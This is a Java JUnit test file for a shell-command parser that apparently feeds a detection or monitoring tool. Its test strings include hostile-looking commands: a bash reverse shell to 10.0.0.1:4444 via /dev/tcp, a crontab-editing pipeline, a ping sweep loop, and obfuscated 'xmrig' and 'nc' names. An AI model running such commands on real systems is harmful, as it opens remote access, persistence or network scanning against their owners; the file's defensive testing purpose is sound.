package dev.ale.monitor.detect;

import dev.ale.monitor.detect.ShellWords.Command;
import dev.ale.monitor.detect.ShellWords.Redirect;
import dev.ale.monitor.detect.ShellWords.Script;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.params.provider.Arguments.arguments;

class ShellWordsTest {

    static Stream<Arguments> splits() {
        return Stream.of(
                arguments("ls -la /tmp", List.of(List.of("ls", "-la", "/tmp"))),
                arguments("a | b && c || d ; e", List.of(List.of("a"), List.of("b"), List.of("c"), List.of("d"), List.of("e"))),
                arguments("echo \"a b\" 'c d' e\\ f", List.of(List.of("echo", "a b", "c d", "e f"))),
                arguments("\"ss\"'h' -V", List.of(List.of("ssh", "-V"))),
                arguments("\\ssh -V", List.of(List.of("ssh", "-V"))),
                arguments("echo 'it''s'", List.of(List.of("echo", "its"))),
                arguments("echo \"say \\\"hi\\\" \\$HOME\"", List.of(List.of("echo", "say \"hi\" $HOME"))),
                arguments("echo $'\\x78\\x6d\\x72ig\\n'", List.of(List.of("echo", "xmrig\n"))),
                arguments("echo a # b c", List.of(List.of("echo", "a"))),
                arguments("echo a#b", List.of(List.of("echo", "a#b"))),
                arguments("echo a \\\n b", List.of(List.of("echo", "a", "b"))),
                arguments("X=1 Y='a b' cmd", List.of(List.of("X=1", "Y=a b", "cmd"))),
                arguments("a=(1 2 3); echo ${a[@]}", List.of(List.of("a=(1 2 3)"), List.of("echo", "${a[@]}"))),
                arguments("echo ${x:-a b}", List.of(List.of("echo", "${x:-a b}"))),
                arguments("echo $((1 + 2))", List.of(List.of("echo", "$((1 + 2))"))),
                arguments("f() { echo hi; }; f", List.of(List.of("echo", "hi"), List.of("f"))),
                arguments("function g { echo hi; }", List.of(List.of("echo", "hi"))),
                arguments("if [ -f x ]; then cat x; else echo no; fi", List.of(List.of("[", "-f", "x", "]"), List.of("cat", "x"), List.of("echo", "no"))),
                arguments("while true; do sleep 1; done", List.of(List.of("true"), List.of("sleep", "1"))),
                arguments("case $x in a|b) echo one;; *) echo two;; esac", List.of(List.of("echo", "one"), List.of("echo", "two"))),
                arguments("! grep -q x f", List.of(List.of("grep", "-q", "x", "f"))),
                arguments("{ a; b; } > out", List.of(List.of("a"), List.of("b"), List.of())),
                arguments("echo \"abc", List.of(List.of("echo", "abc"))),
                arguments("echo 'abc", List.of(List.of("echo", "abc"))),
                arguments("make 2>&1 | tee build.log", List.of(List.of("make"), List.of("tee", "build.log"))),
                arguments("a;;b", List.of(List.of("a"), List.of("b"))),
                arguments(")))(((", List.of()),
                arguments("", List.of()));
    }

    @ParameterizedTest
    @MethodSource("splits")
    void commandLinesSplitIntoSimpleCommandsAndWords(String line, List<List<String>> expected) {
        assertThat(ShellWords.parse(line).commands()).extracting(Command::words).isEqualTo(expected);
    }

    @Test
    void substitutionsAreParsedAsScriptsOfTheirOwn() {
        Script s = ShellWords.parse("echo \"x$(id -u)y\" `uname -a` <(sort a)");
        assertThat(s.commands()).extracting(Command::words)
                .containsExactly(List.of("echo", "x$(id -u)y", "`uname -a`", "<(sort a)"));
        assertThat(s.substitutions()).flatExtracting(Script::allWords)
                .containsExactly(List.of("id", "-u"), List.of("uname", "-a"), List.of("sort", "a"));
    }

    @Test
    void nestedSubstitutionsAreFollowed() {
        assertThat(ShellWords.split("a $(b $(c `d`))"))
                .containsExactly(List.of("a", "$(b $(c `d`))"), List.of("b", "$(c `d`)"), List.of("c", "`d`"), List.of("d"));
    }

    @Test
    void redirectionsAreKeptApartFromWords() {
        Command c = ShellWords.parse("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").commands().getFirst();
        assertThat(c.words()).containsExactly("bash", "-i");
        assertThat(c.redirects()).containsExactly(
                new Redirect("", ">&", "/dev/tcp/10.0.0.1/4444", Optional.empty()),
                new Redirect("0", ">&", "1", Optional.empty()));
    }

    @Test
    void aFileDescriptorNumberIsNotAWord() {
        Command c = ShellWords.parse("exec 3<>/dev/tcp/h/80").commands().getFirst();
        assertThat(c.words()).containsExactly("exec");
        assertThat(c.redirects()).containsExactly(new Redirect("3", "<>", "/dev/tcp/h/80", Optional.empty()));
        assertThat(ShellWords.parse("echo 3 >x").commands().getFirst().words()).containsExactly("echo", "3");
    }

    @Test
    void heredocBodiesBelongToTheirRedirectionAndAreNotCommands() {
        Script s = ShellWords.parse("cat <<'EOF' > f.txt\nnohup $x &\nEOF\necho done");
        assertThat(s.commands()).extracting(Command::words).containsExactly(List.of("cat"), List.of("echo", "done"));
        Redirect heredoc = s.commands().getFirst().redirects().getFirst();
        assertThat(heredoc.operator()).isEqualTo("<<");
        assertThat(heredoc.heredoc()).contains("nohup $x &\n");
        assertThat(s.detached()).isEmpty();
    }

    @Test
    void dashHeredocStripsLeadingTabs() {
        Script s = ShellWords.parse("sh <<-END\n\techo hi\n\tEND\nls");
        assertThat(s.commands().getFirst().redirects().getFirst().heredoc()).contains("echo hi\n");
        assertThat(s.commands()).extracting(Command::words).containsExactly(List.of("sh"), List.of("ls"));
    }

    @Test
    void hereStringIsARedirectionTarget() {
        Command c = ShellWords.parse("base64 -d <<< 'eG1yaWc='").commands().getFirst();
        assertThat(c.redirects()).containsExactly(new Redirect("", "<<<", "eG1yaWc=", Optional.empty()));
    }

    @Test
    void pipesJoinAcrossANewlineAfterTheBar() {
        Script s = ShellWords.parse("echo a |\n  sh\nls");
        assertThat(s.pipelines()).hasSize(2);
        assertThat(s.pipelines().getFirst().commands()).hasSize(2);
    }

    @Test
    void aPipeAfterAGroupReadsTheWholeGroup() {
        Script s = ShellWords.parse("(crontab -l; echo x) | crontab -; ls | wc");
        assertThat(s.pipelines()).extracting(ShellWords.Pipeline::fedFrom).containsExactly(-1, -1, 0, -1);
        assertThat(ShellWords.parse("(a); b | c").pipelines()).extracting(ShellWords.Pipeline::fedFrom).containsExactly(-1, -1);
    }

    @Test
    void loopsNameTheirVariables() {
        Script s = ShellWords.parse("for i in $(seq 1 254); do ping -c1 10.0.0.$i; done");
        assertThat(s.hasLoop()).isTrue();
        assertThat(s.loopVariables()).containsExactly("i");
        assertThat(s.commands()).extracting(Command::words).containsExactly(List.of("ping", "-c1", "10.0.0.$i"));
        assertThat(s.substitutions()).flatExtracting(Script::allWords).containsExactly(List.of("seq", "1", "254"));

        Script c = ShellWords.parse("for ((port=1; port<1024; port++)); do echo $port; done");
        assertThat(c.loopVariables()).containsExactly("port");
        assertThat(ShellWords.parse("while read h; do echo $h; done < hosts").hasLoop()).isTrue();
    }

    @Test
    void aTrailingAmpersandLeavesACommandDetached() {
        assertThat(ShellWords.parse("python3 -m http.server &").detached())
                .map(Command::words).contains(List.of("python3", "-m", "http.server"));
        assertThat(ShellWords.parse("server & sleep 1; curl localhost").detached()).isEmpty();
        assertThat(ShellWords.parse("server &\n").detached()).isPresent();
        assertThat(ShellWords.parse("(a; b) &").detached()).map(Command::words).contains(List.of("b"));
        assertThat(ShellWords.parse("make &> build.log").detached()).isEmpty();
        assertThat(ShellWords.parse("a && b").detached()).isEmpty();
    }

    @Test
    void aBackgroundedLastActOfASubshellIsOrphaned() {
        assertThat(ShellWords.parse("( sleep 600 & )").pipelines()).singleElement().satisfies(p -> {
            assertThat(p.background()).isTrue();
            assertThat(p.orphaned()).isTrue();
        });
        assertThat(ShellWords.parse("( sleep 1 & wait )").pipelines()).noneMatch(ShellWords.Pipeline::orphaned);
        assertThat(ShellWords.parse("( sleep 1 & )").detached()).isEmpty();
    }

    @Test
    void argvIsOneCommandWithNothingInterpreted() {
        Script s = ShellWords.ofArgv(List.of("echo", "a | b; c", "$(id)"));
        assertThat(s.commands()).extracting(Command::words).containsExactly(List.of("echo", "a | b; c", "$(id)"));
        assertThat(s.substitutions()).isEmpty();
        assertThat(ShellWords.ofArgv(List.of()).pipelines()).isEmpty();
    }

    @Test
    void escapesDecodeLikeBash() {
        assertThat(ShellWords.decodeEscapes("\\x6e\\x63 \\101\\0102 \\t|\\u263a|\\q|\\")).isEqualTo("nc AB \t|\u263a|\\q|\\");
    }

    @Test
    void nestingDeeperThanTheLimitIsKeptAsText() {
        String deep = "$(".repeat(100) + "id" + ")".repeat(100);
        Script s = ShellWords.parse("echo " + deep);
        int depth = 0;
        for (Script at = s; !at.substitutions().isEmpty(); at = at.substitutions().getFirst()) depth++;
        assertThat(depth).isEqualTo(ShellWords.MAX_NESTING);
    }

    @Test
    void randomTextNeverThrows() {
        Random random = new Random(20_250_101L);
        String alphabet = "abcxyz019 \t\n'\"\\$`(){}[]|&;<>#=*?!~-/.:+@%^,";
        for (int round = 0; round < 20_000; round++) {
            int length = random.nextInt(120);
            StringBuilder sb = new StringBuilder();
            for (int i = 0; i < length; i++) {
                sb.append(random.nextInt(10) == 0 ? (char) random.nextInt(0x3000) : alphabet.charAt(random.nextInt(alphabet.length())));
            }
            String text = sb.toString();
            assertThatCode(() -> ShellWords.parse(text).allWords()).as("input %s", text).doesNotThrowAnyException();
        }
    }

    @Test
    void pathologicalInputsFinishQuickly() {
        List<String> inputs = List.of(
                "$(".repeat(50_000), "`".repeat(50_001), "((((".repeat(20_000), "\"$(".repeat(20_000),
                "<<A\n".repeat(10_000), "a".repeat(1_000_000), "$'\\".repeat(30_000), "{$(".repeat(20_000),
                "case x in ".repeat(10_000), "a=(".repeat(20_000));
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> {
            for (String input : inputs) ShellWords.parse(input);
        });
    }
}
